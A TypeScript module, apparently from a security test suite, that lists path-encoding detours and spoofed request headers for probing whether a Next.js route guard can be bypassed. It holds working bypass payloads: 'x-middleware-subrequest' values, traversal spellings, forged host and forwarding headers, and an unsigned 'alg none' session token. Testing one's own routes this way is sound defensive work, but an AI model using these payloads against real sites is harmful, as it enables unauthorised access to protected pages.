/** Language prefixes, valid and invalid, in many spellings. */
const PREFIXES = [
  'fr',
  'ar',
  'sw',
  'xx',
  'xr',
  'zz',
  'fr-FR',
  'FR',
  'Fr',
  'EN',
  '%66r',
  'f%72',
  'fr%2f',
  'fr;a=b',
  'fr/',
  'fr/.',
  'fr/fr',
  'fr/en',
  'en/fr',
  'fr/viewer/..',
  'about/../fr',
  '.%2ffr',
  '\\fr',
  '_next/fr',
  '[language]',
];

/** Returns different spellings of a guarded address. */
export function detours(address: string): string[] {
  const name = address.slice(1);
  const first = `%${name.charCodeAt(0).toString(16)}${name.slice(1)}`;
  return [
    `/${name}`,
    `/${name}/`,
    `//${name}`,
    `/./${name}`,
    `/%2e/${name}`,
    `/login/../${name}`,
    `/login/%2e%2e/${name}`,
    `/login/..;/${name}`,
    `/${first}`,
    `/${name.toUpperCase()}`,
    `/${name}%2f`,
    `/${name}%20`,
    `/${name}%09`,
    `/${name};a=b`,
    `/${name}.rsc`,
    `/${name}.txt`,
    `/${name}.json`,
    `/${name}/index`,
    `/${name}.segments/_tree.segment.rsc`,
    `/_next/data/development/${name}.json`,
    `/${name}?_rsc=1a2b3`,
    `/${name}?__nextDataReq=1`,
    `/${name}?__nextLocale=en`,
    `/en/${name}`,
    `/(member)/${name}`,
    `/(member)/${name}/page`,
    `/\\${name}`,
    `/viewer/../${name}`,
    ...PREFIXES.map((prefix) => `/${prefix}/${name}`),
  ];
}

const SUBREQUESTS = ['middleware', 'src/middleware', 'pages/_middleware', 'middleware.ts'].flatMap(
  (name) => [name, Array.from({ length: 5 }, () => name).join(':')],
);
const TREE = encodeURIComponent('["",{"children":["__PAGE__",{}]},null,"refetch"]');
/** States of Next's router that Next answers with 500. */
const BROKEN_TREES = ['[', '%', '["",{"children":["__PAGE__"]}]'];
const NO_SIGNATURE = 'eyJhbGciOiJub25lIn0.eyJzaWQiOiJ4In0.';

/** Headers that Next, proxies or frameworks have trusted by mistake. */
export const BYPASS_HEADERS: Record<string, string>[] = [
  {},
  ...SUBREQUESTS.map((value) => ({ 'x-middleware-subrequest': value })),
  { 'x-middleware-prefetch': '1' },
  { 'x-middleware-next': '1' },
  { 'x-middleware-invoke': '1' },
  { 'x-middleware-rewrite': '/profile' },
  { 'x-middleware-override-headers': 'cookie', 'x-middleware-request-cookie': 'a=b' },
  { 'x-nextjs-data': '1' },
  { rsc: '1' },
  { rsc: '1', 'next-router-prefetch': '1' },
  { rsc: '1', 'next-router-segment-prefetch': '/_tree' },
  { rsc: '1', 'next-router-state-tree': TREE },
  ...BROKEN_TREES.map((tree) => ({ rsc: '1', 'next-router-state-tree': tree })),
  { rsc: '1', 'next-router-prefetch': '2' },
  { rsc: '1', 'next-router-prefetch': '3' },
  { accept: 'text/x-component' },
  { 'next-action': '0'.repeat(40) },
  { 'next-resume': '1' },
  { 'x-matched-path': '/profile' },
  { 'x-now-route-matches': '1=profile' },
  { 'x-invoke-path': '/profile', 'x-invoke-status': '200' },
  { 'x-invoke-output': '/profile' },
  { 'x-original-url': '/profile' },
  { 'x-rewrite-url': '/profile' },
  { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https' },
  { 'x-forwarded-for': '127.0.0.1', 'x-real-ip': '127.0.0.1' },
  { 'x-client-address': '127.0.0.1' },
  { host: 'evil.example' },
  { 'x-prerender-revalidate': '1' },
  { 'x-prerender-bypass-mode': 'static' },
  { cookie: '__prerender_bypass=1; __next_preview_data=1' },
  { cookie: 'next-auth.session-token=x' },
  { cookie: `next-auth.session-token=${NO_SIGNATURE}` },
  { cookie: '__Secure-next-auth.session-token=x' },
  { authorization: `Bearer ${NO_SIGNATURE}` },
  { authorization: 'Bearer null' },
];
